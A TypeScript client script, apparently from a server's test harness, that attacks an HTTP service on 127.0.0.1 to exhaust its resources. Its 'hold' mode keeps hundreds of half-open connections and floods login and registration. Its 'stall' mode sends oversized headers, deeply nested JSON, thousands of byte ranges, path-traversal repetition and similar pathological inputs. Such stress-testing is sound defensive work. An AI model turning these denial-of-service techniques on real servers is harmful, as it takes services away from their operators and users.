// A program: asks one server for as much as its part allows, until it is ended. Prints a line once it is at full strength.
// Usage: node hostile-client.ts hold|stall PORT ADDRESS
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const [part, portText = '', localAddress = ''] = process.argv.slice(2);
const port = Number(portText);
const password = 'umbrella left by the door';

/** Sends bytes on a connection of its own and never ends it from this side, whatever the server does. */
function hold(bytes: string, again: () => void): Socket {
  const socket = connect({ port, host: '127.0.0.1', localAddress, allowHalfOpen: true });
  socket.on('error', () => {});
  socket.on('close', again);
  socket.on('connect', () => socket.write(bytes));
  socket.resume();
  return socket;
}

const unfinished = [
  '',
  'POST /login HTTP/1.1\r\nHost: x\r\nContent-',
  'POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"username":',
  'GET / HTTP/1.1\r\nHost: x\r\n\r\n',
];

function holdOpen(count: number) {
  for (let held = 0; held < count; held += 1) {
    const bytes = unfinished[held % unfinished.length] ?? '';
    const begin = () => void hold(bytes, () => setTimeout(begin, 100));
    begin();
  }
}

const agent = new Agent({ keepAlive: true, localAddress });

/** Makes one request and reads the answer to its end. */
function send(
  method: string,
  path: string,
  headers: Record<string, string | string[]>,
  body = '',
  through: Agent | false = agent,
): Promise<{ status: number; cookie: string }> {
  return new Promise((answered) => {
    const options = { port, host: '127.0.0.1', localAddress, agent: through, method, path, headers };
    const asked = request(options, (answer) => {
      const cookie = answer.headers['set-cookie']?.[0]?.split(';', 1)[0] ?? '';
      answer.resume().on('close', () => answered({ status: answer.statusCode ?? 0, cookie }));
    });
    asked.on('error', () => answered({ status: 0, cookie: '' }));
    asked.end(body);
  });
}

const json = { 'content-type': 'application/json' };
const registration = (username: string) => JSON.stringify({ username, password });

/** Keeps doing something, as often as it is answered. */
async function repeat(work: (round: number) => Promise<{ status: number }>) {
  for (let round = 0; ; round += 1) {
    const { status } = await work(round);
    if ([0, 429, 503].includes(status)) await pause(50);
  }
}

if (part === 'hold') {
  await send('POST', '/register', json, registration('holder'));
  holdOpen(300);
  for (let line = 0; line < 600; line += 1) {
    repeat(() => send('POST', '/login', json, registration('holder')));
  }
  const burst = () => {
    for (let name = 0; name < 480; name += 1) {
      send('POST', '/register', json, registration(`flood${name}`), false);
    }
  };
  burst();
  setInterval(burst, 20_000);
} else {
  const { cookie } = await send('POST', '/register', json, registration('staller'));
  const deep = `${'{"a":'.repeat(1_300)}1${'}'.repeat(1_300)}`;
  const inputs: (() => Promise<{ status: number }>)[] = [
    () => send('POST', '/login', { 'content-type': `application/json${' '.repeat(14_000)};x=y` }, '{}'),
    () => send('GET', '/session', { cookie: 'coatcheck=x; '.repeat(1_100) }),
    () => send('GET', '/session', { 'user-agent': 'Mozilla/5.0 ('.repeat(1_000), cookie }),
    () => send('POST', '/login', json, deep),
    () => send('PATCH', '/session', json, `{"a":"${'́̂'.repeat(2_000)}"}`),
    () => send('POST', '/register', json, registration(`${'a.'.repeat(3_900)}`)),
    () =>
      send(
        'POST',
        '/register',
        json,
        JSON.stringify({ username: 'x', password, email: `${'a@'.repeat(3_900)}` }),
      ),
    () => send('GET', `/me/activity?${'limit=1&'.repeat(1_800)}`, { cookie }),
    () => send('GET', `/${'../'.repeat(4_500)}`, { accept: 'text/html,'.repeat(100) }),
    () => send('GET', '/', { 'accept-encoding': 'br;q=0.1,'.repeat(1_600) }),
    () => send('GET', '/favicon.svg', { range: `bytes=${'0-1,'.repeat(3_500)}0-1` }),
    () => send('GET', '/me/export', { cookie }),
  ];
  for (let line = 0; line < 4; line += 1) {
    repeat((round) => inputs[(round + line) % inputs.length]?.() ?? send('GET', '/', {}));
  }
}
process.stdout.write('at it\n');
